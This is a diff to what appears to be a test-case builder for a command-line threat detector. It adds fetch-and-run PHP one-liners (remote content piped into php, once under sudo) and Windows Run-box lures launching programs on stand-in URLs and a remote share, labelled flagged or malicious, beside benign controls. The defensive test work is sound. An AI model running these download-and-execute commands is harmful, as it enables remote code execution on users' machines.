@@ -31,6 +31,13 @@ By kind:
 - `script-decode-then-run`: one-liners that hand their runner what a decoder gives back
   (`os.system(base64.b64decode('…'))`): PG-NIX-DECODE-TO-SHELL. A decode that is only printed
   stays as it was.
+- `php-print-to-php`: PHP printing an address's content into another PHP (`php -r
+  "readfile('https://…');" | php`), as `curl … | php`: PG-NIX-PIPE-TO-SHELL, a warning (a known
+  vendor's installer is cleared as its curl form is). Printing into a pager or jq stays quiet.
+- `run-box-program-path-words`: a program by its unquoted path with spaces and words after it
+  (`C:\\Program Files\\Some App\\app.exe https://…`): the Run box finds the program word by word
+  and runs it with the rest, so it is a command (runbox._PROGRAM_THEN_WORDS). The path alone, a
+  folder, an editor given a local file (typed), a browser on a page stay quiet.
 - `explorer-remote-program`: Explorer given a program file on a share of a public name, an address
   or WebDAV (it runs, as a double-click would): PG-WIN-UNC-EXECUTE. A folder or a document on a
   share, a program on a local-network server stay as they were.
@@ -60,7 +67,7 @@ def perfmon(book: Book) -> None:
     tech = "run-box-perfmon-mode"
     for i, text in enumerate(
         ["perfmon /sys /comp", "perfmon.exe /sys /comp", "perfmon /rel", "perfmon /res",
-         "perfmon /report"]
+         "perfmon.exe /res"]
     ):  # fmt: skip
         book.add(tech, text, "not_flagged", "windows", RUN, (KB, TIPS)[i % 2])
     for text in (
@@ -254,6 +261,54 @@ def explorer_remote(book: Book) -> None:
         book.add(tech, text, "not_flagged", "windows", UNKNOWN, None)
 
 
+def print_to_php(book: Book) -> None:
+    tech = "php-print-to-php"
+    for text in (
+        """php -r "readfile('https://stage.umbra-stage.test/i');" | php""",
+        """php -r "echo file_get_contents('http://203.0.113.8/i');" | sudo php""",
+        """php -r 'readfile("https://cdn.check-session.test/setup");' | php -- --quiet""",
+        """php -r "fpassthru(fopen('https://stage.umbra-stage.test/i','r'));" | php""",
+        """php -r "readfile('https://get.umbra-stage.test/installer');" | php8.3""",
+    ):
+        book.add(tech, text, "flagged", "linux", TERMINAL, None)
+    for text in (
+        """php -r "readfile('https://getcomposer.org/installer');" | php""",
+        """php -r "readfile('https://www.example.com/robots.txt');" | less""",
+        """php -r "echo file_get_contents('https://api.example.com/v1/status');" | jq .""",
+        """php -r "readfile('https://downloads.example.org/CHANGELOG.md');" | head -n 40""",
+        """php -r "echo phpversion();" | tee php-version.txt""",
+    ):
+        book.add(tech, text, "not_flagged", "linux", TERMINAL, None)
+
+
+def program_path_words(book: Book) -> None:
+    tech = "run-box-program-path-words"
+    for i, text in enumerate(
+        [
+            r"C:\Program Files\Contoso Helper\helper.exe https://cdn-check.umbra-stage.test/v",
+            r"C:\Program Files\Windows Media Player\wmplayer.exe https://cdn-check.umbra-stage.test/v.asx",
+            r"C:\Program Files\7-Zip\7zFM.exe \\203.0.113.9\pub\invoice.zip",
+            r"C:\Program Files (x86)\Contoso Sync\sync.exe stage.umbra-stage.test",
+            r"C:\Program Files\Contoso Tools\runner.cmd verify 4471",
+        ]
+    ):
+        book.add(tech, text, "malicious", "windows", RUN, (LURE, LURE2)[i % 2])
+    for text in (
+        r"C:\Program Files\Contoso Helper\helper.exe https://cdn-check.umbra-stage.test/v",
+        r"C:\Program Files\7-Zip\7zFM.exe \\203.0.113.9\pub\invoice.zip",
+    ):
+        book.add(tech, text, "flagged", "windows", RUN, None)
+    for text, source in (
+        (r"C:\Program Files\Notepad++\notepad++.exe C:\logs\app.log", None),
+        (r"C:\Program Files\Microsoft VS Code\Code.exe D:\src\site", None),
+        (r"C:\Program Files\Contoso Helper\helper.exe", TIPS),
+        (r"C:\Program Files (x86)\Common Files", KB),
+        (r"C:\Users\jonas\Documents\Node.js projects", None),
+        (r"C:\Program Files\Mozilla Firefox\firefox.exe https://intranet.corp.example/", TIPS),
+    ):
+        book.add(tech, text, "not_flagged", "windows", RUN, source)
+
+
 def build() -> list[dict[str, str]]:
     book = Book("b19f")
     perfmon(book)
@@ -263,6 +318,8 @@ def build() -> list[dict[str, str]]:
     fetch_then_run(book)
     decode_then_run(book)
     explorer_remote(book)
+    print_to_php(book)
+    program_path_words(book)
     return book.cases
 
 
